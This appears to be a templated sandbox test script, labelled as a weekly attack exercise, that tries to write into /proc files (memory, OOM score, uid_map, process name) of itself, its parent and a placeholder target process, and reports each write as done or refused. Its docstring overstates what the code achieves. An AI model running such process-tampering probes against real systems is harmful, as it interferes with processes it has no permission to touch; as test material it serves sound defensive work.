"""Writes into its own code through /proc, past every protection of pages."""
# attack: week=03 exercise=pyramid
import os

for number in ("self", os.getppid(), @PID@):
    for name, text in (("mem", "x"), ("oom_score_adj", "1000"), ("clear_refs", "1"), ("comm", "@MARK@"), ("coredump_filter", "255"), ("timerslack_ns", "1"), ("uid_map", "0 0 1")):
        try:
            with open(f"/proc/{number}/{name}", "r+") as file:
                file.write(text)
            print("wrote", number, name)
        except OSError as error:
            print("refused", error)
